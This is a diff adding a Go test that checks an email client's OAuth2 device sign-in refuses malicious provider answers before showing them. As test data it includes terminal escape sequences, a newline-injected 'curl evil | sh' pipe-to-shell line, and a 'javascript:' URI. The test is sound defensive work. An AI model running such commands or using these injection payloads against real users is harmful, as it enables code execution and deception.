@@ -1,0 +1,70 @@
+package accounts
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+	"time"
+)
+
+// TestOAuth2DeviceAnswerChecked: the device authorization answer is
+// shown to the user, so a provider's answer whose user code or URL
+// holds terminal control sequences (or is absurdly long) is refused
+// before anything is printed, never shown raw.
+func TestOAuth2DeviceAnswerChecked(t *testing.T) {
+	for _, tc := range []struct {
+		name     string
+		answer   map[string]any
+		wantFail bool
+	}{
+		{"good", map[string]any{"user_code": "WDJB-MJHT", "verification_uri": "https://idp.example/device",
+			"verification_uri_complete": "https://idp.example/device?user_code=WDJB-MJHT"}, false},
+		{"escape in the user code", map[string]any{"user_code": "\x1b]0;owned\x07\x1b[2J", "verification_uri": "https://idp.example/device"}, true},
+		{"newline in the user code", map[string]any{"user_code": "AB\nRun: curl evil | sh", "verification_uri": "https://idp.example/device"}, true},
+		{"long user code", map[string]any{"user_code": strings.Repeat("A", 1000), "verification_uri": "https://idp.example/device"}, true},
+		{"complete URI not https", map[string]any{"user_code": "WDJB", "verification_uri": "https://idp.example/device",
+			"verification_uri_complete": "javascript:alert(1)"}, true},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				w.Header().Set("Content-Type", "application/json")
+				if r.URL.Path == "/device" {
+					m := map[string]any{"device_code": "dc", "expires_in": 600, "interval": 1}
+					for k, v := range tc.answer {
+						m[k] = v
+					}
+					json.NewEncoder(w).Encode(m)
+					return
+				}
+				// The token endpoint: the user never approves.
+				w.WriteHeader(http.StatusBadRequest)
+				w.Write([]byte(`{"error":"access_denied"}`))
+			}))
+			defer srv.Close()
+			acct := AccountConfig{Name: "work", Email: "ann@example.com", Auth: AuthOAuth2, OAuth2Settings: OAuth2Settings{
+				OAuth2Provider: ProviderCustom, OAuth2ClientID: "c", OAuth2TokenURL: srv.URL + "/token", OAuth2DeviceURL: srv.URL + "/device",
+				OAuth2Scopes: []string{"mail"}}}
+			var shown []SignInPrompt
+			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+			defer cancel()
+			_, err := SignIn(ctx, acct, SignInOptions{Flow: FlowDevice, HTTP: srv.Client(), Prompt: func(p SignInPrompt) { shown = append(shown, p) }})
+			if !errors.Is(err, ErrSignIn) {
+				t.Fatalf("sign-in: %v", err)
+			}
+			if tc.wantFail {
+				if len(shown) != 0 || !strings.Contains(err.Error(), "device authorization answer") {
+					t.Fatalf("a bad answer was shown (%q) or not explained: %v", shown, err)
+				}
+				if strings.ContainsAny(err.Error(), "\x1b\x07\n") {
+					t.Fatalf("the error holds control characters: %q", err)
+				}
+			} else if len(shown) != 1 || !strings.Contains(err.Error(), "refused") {
+				t.Fatalf("good answer: shown %v, err %v", shown, err)
+			}
+		})
+	}
+}
